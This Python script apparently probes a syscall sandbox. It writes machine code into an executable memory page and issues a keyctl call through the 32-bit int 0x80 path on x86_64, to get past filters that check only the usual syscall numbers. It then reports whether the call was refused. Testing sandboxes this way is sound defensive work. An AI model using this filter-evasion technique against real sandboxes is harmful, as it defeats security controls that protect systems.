"""Makes its system calls as 32-bit programs do, past filters that know only the usual numbers."""
import ctypes
import mmap
import platform
import struct

from attack import in_child, verdict

KEYCTL, GET_ID, PROCESS = 288, 0, -2
# push rbx; mov eax, KEYCTL; mov ebx, GET_ID; mov ecx, PROCESS; mov edx, 1; int 0x80; pop rbx; ret
CODE = (b'\x53\xb8' + struct.pack('i', KEYCTL) + b'\xbb' + struct.pack('i', GET_ID) + b'\xb9'
        + struct.pack('i', PROCESS) + b'\xba' + struct.pack('i', 1) + b'\xcd\x80\x5b\xc3')


def call():
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(CODE)
    function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    return function() > 0


usual = platform.machine() == 'x86_64'
reached = usual and in_child(call)
verdict(reached, 'worked' if reached else 'refused' if usual else 'there is no other')
